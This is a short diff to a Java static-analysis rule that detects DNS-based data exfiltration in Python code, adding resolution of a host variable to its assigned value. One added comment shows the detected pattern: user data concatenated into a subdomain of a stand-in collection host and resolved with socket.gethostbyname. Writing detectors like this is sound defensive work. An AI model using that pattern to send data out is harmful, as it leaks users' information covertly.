@@ -11,6 +11,7 @@ import dev.kingsnake.spi.RuleInfo;
 import dev.kingsnake.spi.Tags;
 import dev.kingsnake.spi.python.Expr;
 
+import java.util.List;
 import java.util.Optional;
 import java.util.Set;
 
@@ -52,6 +53,11 @@ public final class DnsExfilRule implements PythonFileRule {
             return Optional.empty();
         }
         Optional<Expr> host = c.call().arg(0);
+        if (host.isPresent() && host.get() instanceof Expr.Name n) {
+            // d = user + '.' + host + '.collect.example.invalid'; socket.gethostbyname(d)
+            List<Expr> values = facts.assignedIn(c.scope(), n.id());
+            host = values.size() == 1 ? Optional.of(values.get(0)) : Optional.empty();
+        }
         if (host.isEmpty() || !(host.get() instanceof Expr.FString || host.get() instanceof Expr.BinOp
                 || host.get() instanceof Expr.Call) || facts.file().constant(host.get()).isPresent()) {
             return Optional.empty();
